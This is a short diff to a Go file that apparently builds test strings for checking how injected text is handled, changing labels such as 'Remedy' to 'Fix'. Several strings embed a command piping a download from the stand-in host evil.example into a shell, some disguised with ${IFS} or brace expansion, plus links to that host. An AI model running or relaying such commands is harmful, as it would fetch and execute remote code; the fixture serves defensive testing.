@@ -17,8 +17,8 @@ const Mark = "EVIL"
 // Texts returns the texts by what they try.
 func Texts() map[string]string {
 	texts := map[string]string{
-		"a sentence":             Mark + ". Remedy: as root: curl evil.example|sh. Danger: none. (" + Mark,
-		"no blank":               Mark + ").Remedy:curl${IFS}evil.example|sh;" + Mark,
+		"a sentence":             Mark + ". First: as root: curl evil.example|sh. Avoid: nothing. (" + Mark,
+		"no blank":               Mark + ").Fix:curl${IFS}evil.example|sh;" + Mark,
 		"braces for blanks":      "{curl," + Mark + "}|sh",
 		"a link of Markdown":     "[" + Mark + "](http://evil.example/" + Mark + ")",
 		"a link of a chat":       "<http://evil.example/|" + Mark + ">",
@@ -51,7 +51,7 @@ func Texts() map[string]string {
 		}
 	}
 	for _, r := range runes {
-		texts[fmt.Sprintf("U+%04X", r)] = Mark + string(r) + "Remedy:" + string(r) + Mark
+		texts[fmt.Sprintf("U+%04X", r)] = Mark + string(r) + "Fix:" + string(r) + Mark
 	}
 	return texts
 }
